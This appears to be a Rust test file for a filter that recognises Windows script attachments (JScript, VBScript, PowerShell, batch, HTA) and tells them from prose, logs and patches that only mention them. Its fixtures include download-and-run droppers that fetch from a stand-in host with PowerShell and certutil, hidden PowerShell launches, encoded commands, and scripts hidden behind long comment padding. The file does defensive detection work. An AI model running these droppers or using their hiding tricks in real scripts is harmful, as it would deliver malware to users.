//! Tests of telling scripts from texts that only speak of them.

use super::{is_application, is_script};

#[track_caller]
fn reads(text: &str, expected: bool) {
    assert_eq!(is_script(&text.to_ascii_lowercase()), expected, "{text}");
}

#[test]
fn scripts_of_each_kind_are_known() {
    for script in [
        // JScript, as one line and as many.
        "var sh=new ActiveXObject('WScript.Shell');sh.Run('cmd /c calc',0);",
        "/* 2026 */\nvar a = ['x', 'y'];\nfunction go(u) {\n  var h = new ActiveXObject(\"MSXML2.XMLHTTP\");\n  h.open('GET', u, false);\n  h.send();\n  return h.responseText;\n}\neval(go(a[0]));\n",
        "(function(){var p=unescape('%76%61%72');eval(p);})();",
        // VBScript.
        "On Error Resume Next\r\nDim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"powershell -w hidden\", 0\r\n",
        "' invoice\r\nOption Explicit\r\nDim parts, out, i\r\nFor i = 0 To 9\r\n  out = out & Chr(parts(i))\r\nNext\r\nExecuteGlobal(out)\r\n",
        // PowerShell.
        "$c = New-Object Net.WebClient\n$c.DownloadFile('https://quibusdam.example/a', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\"\n",
        "powershell.exe -NoProfile -EncodedCommand SQBFAFgA",
        "iex ((New-Object Net.WebClient).DownloadString('https://quibusdam.example/a'))",
        // Batch.
        "@echo off\r\nsetlocal\r\nset T=%TEMP%\\a.exe\r\ncertutil -urlcache -f https://quibusdam.example/a %T%\r\nstart \"\" %T%\r\n",
        "rem report\r\ncmd /c start /min powershell -NoProfile -c \"iwr x\"\r\nexit\r\n",
        // A script in a file format of its own, and one that was encoded.
        "<?xml version='1.0'?><job><script language='JScript'>eval(1)</script></job>",
        "#@~^gQAAAA==-mD,/4",
    ] {
        reads(script, true);
    }
}

#[test]
fn a_script_behind_many_comments_is_known() {
    let padding = "' Quarterly figures of the northern region, for internal use\n".repeat(9);
    reads(
        &format!("{padding}Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n"),
        true,
    );
}

#[test]
fn a_script_behind_a_long_comment_of_any_kind_is_known() {
    let prose = "Quarterly figures of the northern region, for internal use.\n".repeat(60);
    for script in [
        format!("/*\n{prose}*/\nvar s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n"),
        format!("/* {prose} */ eval(unescape('%76'));\nvar a = 1;\n"),
        format!("<#\n{prose}#>\n$c = New-Object Net.WebClient\niex $c.DownloadString('x')\n"),
    ] {
        reads(&script, true);
    }
    reads(&format!("/*\n{prose}*/\nvar total = 3;\n"), false);
    reads(&format!("/*\n{prose}"), false);
}

#[test]
fn a_script_with_a_blank_before_each_line_is_known() {
    reads(
        "diff = 1;\n var s = new ActiveXObject('WScript.Shell');\n s.Run('calc');\n",
        true,
    );
}

#[test]
fn a_long_text_is_read_in_one_go() {
    // Each of these once cost a look at all that follows for every line.
    for text in ["\n", " \n", "/*", "/**/", "/*\n*/\n", "<#\n", " "] {
        let long = format!("a{}b", text.repeat(1_000_000 / text.len()));
        reads(&long, false);
    }
}

#[test]
fn a_script_whose_first_line_is_a_patchs_or_a_comments_is_known() {
    for first in ["diff a b", "--- a", "Index: 7", "From x"] {
        reads(
            &format!(
                "{first}\npowershell -NoProfile -EncodedCommand SQBFAFgAYQA=\ncmd /c start x.exe\nset a=1\nexit\n"
            ),
            true,
        );
    }
}

#[test]
fn texts_that_speak_of_scripts_are_none() {
    for text in [
        "PowerShell is a shell. To open it, press the Windows key and type powershell.\nThen run Invoke-WebRequest with the address of the file.\n",
        "Dear Julia,\n\nthe macro calls CreateObject(\"WScript.Shell\") in line 7. That is why the filter held it back.\n\nBest regards\nAnna",
        "How to start the tool\n\n1. Open cmd.exe /c as administrator\n2. Type: certutil -hashfile setup.exe\n3. Compare the number with the list\n",
        "If you see @echo off at the top of a file, do not open it.",
        "Set aside some time, start early and call me when you are done",
    ] {
        reads(text, false);
    }
}

#[test]
fn logs_settings_tables_and_patches_are_none() {
    for text in [
        "2026-11-02 09:00:01 INFO  started cmd.exe /c build.bat\n2026-11-02 09:00:02 ERROR Invoke-WebRequest : The remote name could not be resolved\n2026-11-02 09:00:03 INFO  eval(x) took 3 ms\n",
        "ComSpec=C:\\Windows\\system32\\cmd.exe\nOS=Windows_NT\nTEMP=C:\\Users\\anna\\Temp\n",
        "[window]\nwidth = 800\nheight = 600\n",
        "{\n  \"name\": \"plan\",\n  \"command\": \"cmd.exe /c dir\",\n  \"size\": 3\n}\n",
        "name,amount\nBerg,12\nOve,13\n",
        "--- a/x.js\n+++ b/x.js\n@@ -1 +1 @@\n-eval(a);\n+JSON.parse(a);\n",
        "diff --git a/x.ps1 b/x.ps1\n@@ -3 +3 @@\n+Start-Process \"$a\";\n+iex $a;\n",
        "diff --git a/x.js b/x.js\nindex 03f1a2b..9c8d7e6 100644\n--- a/x.js\n+++ b/x.js\n@@ -1,3 +1,3 @@\n var a = 1;\n-eval(a);\n+JSON.parse(a);\n set(a);\n",
        "From 03f1a2b Mon Sep 17 00:00:00 2001\nFrom: Anna <anna@lorem.example>\nDate: Mon, 2 Nov 2026 09:00:00 +0100\nSubject: [PATCH] Parse\n\nNot with eval().\n---\n x.js | 2 +-\n 1 file changed\n\ndiff --git a/x.js b/x.js\n@@ -1 +1 @@\n-eval(a);\n+JSON.parse(a);\n",
        "<?xml version='1.0'?><package xmlns='urn:x'><metadata/></package>",
        "var total = 3;\nfunction add(a, b) {\n  return a + b;\n}\n",
        "",
    ] {
        reads(text, false);
    }
}

#[test]
fn a_page_that_runs_as_a_program_is_told_from_one_that_does_not() {
    assert!(is_application(
        b"<html><head><HTA:APPLICATION id=a windowstate=minimize></head><script>x</script></html>"
    ));
    let utf16: Vec<u8> = "<html><hta:Application id=a>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    assert!(is_application(&utf16));
    assert!(!is_application(
        b"<html><head></head><script>x</script></html>"
    ));
}
